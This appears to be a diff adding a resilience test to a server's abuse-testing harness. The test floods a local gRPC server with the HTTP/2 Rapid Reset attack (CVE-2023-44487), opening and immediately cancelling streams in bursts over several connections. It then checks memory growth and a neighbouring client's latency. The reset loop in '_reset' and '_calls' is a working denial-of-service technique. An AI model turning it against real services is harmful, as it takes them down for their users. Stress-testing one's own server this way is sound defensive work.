@@ -1,0 +1,87 @@
+"""Streams that are opened and reset at once (CVE-2023-44487): no limit on concurrent streams counts them."""
+
+import asyncio
+import contextlib
+import struct
+import time
+from pathlib import Path
+
+from metamorph.vault.v1.vault_service_pb2 import WhoAmIRequest
+
+from harness.abuse.subject import Figure, neighbour, p99, subject
+from tests.support.http2 import (
+    CANCEL,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    RST_STREAM,
+    Connection,
+    block,
+    frame,
+    message,
+)
+from tests.support.http2 import headers as call_headers
+from tests.support.serving import mint
+
+CONNECTIONS = 5
+BURST = 50
+# Then it tries a new connection.
+PATIENCE_SECONDS = 1.0
+MUTANTS = ("resets-are-free",)
+
+
+async def attack(
+    directory: Path,
+    *,
+    seconds: float,
+    most_megabytes: float = 50,
+    most_milliseconds: float = 250,
+    mutant: str = "",
+) -> list[Figure]:
+    """Resets for so long; how the neighbour and the memory fared."""
+    with subject(directory, mutant=mutant) as server:
+        header_block = block(call_headers("/metamorph.vault.v1.VaultService/WhoAmI", mint("hostile", "hostile")))
+        async with neighbour(server) as calls:
+            # Warm: the first calls of a server load what is loaded once.
+            await asyncio.sleep(1)
+            until = time.monotonic() + seconds
+            async with server.growing():
+                counts = await asyncio.gather(*(_reset(server.target, header_block, until) for _ in range(CONNECTIONS)))
+        resets, connections = (sum(column) for column in zip(*counts, strict=True))
+        return [
+            Figure("resets", resets),
+            Figure("connections that the server closed or read no further", connections),
+            Figure("server has ended", float(not server.alive), "", "=", 0),
+            Figure("neighbour's calls", len(calls)),
+            Figure("neighbour's calls that failed", calls.count(float("inf")), "", "=", 0),
+            Figure("neighbour's p99", p99(calls), "ms", "≤", most_milliseconds),
+            Figure("memory growth", server.growth, "MB", "≤", most_megabytes),
+        ]
+
+
+async def _reset(target: str, header_block: bytes, until: float) -> tuple[int, int]:
+    """Resets on one connection after the other; how many streams, how many connections the server left unread."""
+    payload = message(WhoAmIRequest().SerializeToString())
+    resets = lost = 0
+    while time.monotonic() < until:
+        async with Connection(target) as connection:
+            with contextlib.suppress(ConnectionError, TimeoutError):
+                while time.monotonic() < until and not connection.closed.is_set():
+                    connection.write(b"".join(_calls(connection, header_block, payload)))
+                    resets += BURST
+                    async with asyncio.timeout(PATIENCE_SECONDS):
+                        await connection.drain()
+                    await asyncio.sleep(0)
+        lost += time.monotonic() < until
+    return resets, lost
+
+
+def _calls(connection: Connection, header_block: bytes, payload: bytes) -> list[bytes]:
+    streams = [connection.stream() for _ in range(BURST)]
+    return [
+        frame(HEADERS, END_HEADERS, stream, header_block)
+        + frame(DATA, END_STREAM, stream, payload)
+        + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
+        for stream in streams
+    ]
